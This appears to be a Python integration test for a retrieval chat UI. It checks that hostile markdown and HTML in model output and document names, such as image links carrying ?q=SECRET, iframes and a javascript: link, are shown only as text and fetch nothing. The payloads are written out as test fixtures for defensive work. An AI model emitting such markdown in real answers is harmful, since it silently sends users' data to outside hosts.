"""Hostile model output and hostile document names, rendered by the real page in headless Chromium.

A stub OpenAI-compatible server answers every question with markdown that tries to make the
browser fetch (images, links, autolinks, bare URLs, raw HTML) from a second loopback listener.
The page must load nothing from it, show every URL as plain text, and keep the answer readable.
"""

from __future__ import annotations

import os
import shutil
import time
from http.server import BaseHTTPRequestHandler
from pathlib import Path

import pytest

from tests.conftest import ROOT
from tests.integration.conftest import (
    CHROMIUM,
    StubModel,
    launch_chromium,
    open_ask_page,
    run_cli,
    serve,
    stub_env,
    ui_server,
)
from tests.test_safe_markdown import live_parts, visible_text

pytestmark = pytest.mark.integration
ARTIFACTS = ROOT / "tests" / "artifacts"
HOSTILE_NAME = "[click](javascript:alert(1)) <b>bold<b> <img src=x> *em*.md"


def injected_answer(listener: str) -> str:
    """What the stub model says: a real answer wrapped in every way markdown can reach out."""
    return (
        "Employees get **25 days** of paid annual leave per year [1].\n\n"
        f"![x]({listener}/img?q=SECRET)\n\n"
        "![logo][pic] and [the policy][doc]\n\n"
        f"Read [the full policy]({listener}/link) or <{listener}/autolink>.\n\n"
        f"Bare: {listener}/bare and www.example.invalid/www and bob@example.invalid\n\n"
        f'<img src="{listener}/html-img"> <iframe src="{listener}/frame"></iframe>\n\n'
        f'<a href="{listener}/html-link">html link</a> &lt;b&gt;entity&lt;/b&gt;\n\n'
        "- *italic* item\n- `code` item\n\n"
        f"[pic]: {listener}/ref-img?q=SECRET\n"
        f"[doc]: {listener}/ref-link\n"
    )


class Recorder(BaseHTTPRequestHandler):
    """The listener: remembers every request; any request at all means the page reached out."""

    seen: list[str]

    def do_GET(self) -> None:  # noqa: N802 - http.server's naming
        self.seen.append(f"{self.command} {self.path}")
        self.send_response(200)
        self.send_header("Content-Type", "image/gif")
        self.end_headers()
        self.wfile.write(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")

    do_POST = do_HEAD = do_GET

    def log_message(self, *args) -> None:
        pass


@pytest.fixture
def listener():
    seen: list[str] = []
    server = serve(type("Listener", (Recorder,), {"seen": seen}))
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", seen
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture
def stub_model(listener):
    url, _ = listener
    server = serve(type("Stub", (StubModel,), {"answer": injected_answer(url)}))
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/v1"
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture
def poisoned_home(sample_home, tmp_path, listener):
    """sample_docs plus a document whose name and heading are markdown/HTML pointing at the listener."""
    url, _ = listener
    home = tmp_path / "home"
    shutil.copytree(sample_home, home)
    folder = tmp_path / "poisoned"
    folder.mkdir()
    (folder / HOSTILE_NAME).write_text(
        f"# Leave ![h]({url}/heading-img) <img src={url}/heading-html> [more]({url}/heading-link)\n\n"
        "Paid annual leave: employees get 25 days of paid annual leave per year, "
        "booked with the manager at least two weeks ahead.\n",
        encoding="utf-8",
    )
    result = run_cli("ingest", str(folder), env=dict(os.environ, RAG_HOME=str(home)))
    assert result.returncode == 0, result.stderr
    return home


@pytest.mark.skipif(
    not Path(CHROMIUM).exists() and not os.environ.get("CI"),
    reason="Debian chromium is not installed (apt-get install chromium)",
)
@pytest.mark.store_independent  # what the page shows of a passage
def test_injected_markdown_loads_nothing_and_shows_urls_as_text(
    poisoned_home, stub_model, listener
):
    from playwright.sync_api import expect, sync_playwright

    url, seen = listener
    with ui_server(stub_env(poisoned_home, stub_model)) as server, sync_playwright() as p:
        browser = launch_chromium(p)
        page, box = open_ask_page(browser, server, width=1280, height=2800)
        answers = page.get_by_text("Answered in")
        for number, question in enumerate(
            [
                "How many days of paid annual leave do employees get?",
                "How many days of paid annual leave do employees get each year?",
            ],
            start=1,
        ):
            box.fill(question)
            box.press("Enter")
            expect(answers).to_have_count(number, timeout=240_000)
        expect(page.get_by_text("How many days", exact=False)).to_have_count(2)
        time.sleep(2)  # let any image or frame the page would load arrive
        ARTIFACTS.mkdir(exist_ok=True)
        page.screenshot(path=str(ARTIFACTS / "ui-injection.png"), full_page=True)
        assert seen == [], f"the page fetched from the listener: {seen}"
        reaching_out = page.evaluate(
            """(url) => [...document.querySelectorAll('[href], [src]')]
                .map(e => e.tagName + ' ' + (e.getAttribute('href') || e.getAttribute('src')))
                .filter(t => t.includes(url) || t.includes('javascript:'))""",
            url,
        )
        frames = page.locator('[data-testid="stMain"] iframe').count()
        chat = page.locator('[data-testid="stChatMessage"]')
        chat_text = " ".join(chat.all_inner_texts())
        badges = chat.locator("span.stMarkdownBadge", has_text="1").count()
        export = page.get_by_role("button", name="Download conversation")
        expect(export).to_be_visible()
        with page.expect_download() as download:
            export.click()
        exported = Path(download.value.path()).read_text(encoding="utf-8")
        browser.close()
    assert "Traceback" not in server.output, server.output
    assert seen == [], f"the page fetched from the listener: {seen}"
    assert reaching_out == [], f"live links or images: {reaching_out}"
    assert frames == 0
    for path in ["/img?q=SECRET", "/link", "/autolink", "/bare", "/ref-img?q=SECRET"]:
        assert chat_text.count(url + path) >= 2, f"{url + path} is not shown as text twice"
    assert "25 days" in chat_text and badges >= 2  # the citation, as badge 1 in both answers
    assert HOSTILE_NAME in chat_text, "the hostile file name is not shown literally"
    assert f"{url}/heading-img" in chat_text
    assert "<b>entity</b>" in chat_text
    assert live_parts(exported) == []
    assert visible_text(exported).count(url + "/img?q=SECRET") == 2
    assert HOSTILE_NAME in visible_text(exported)
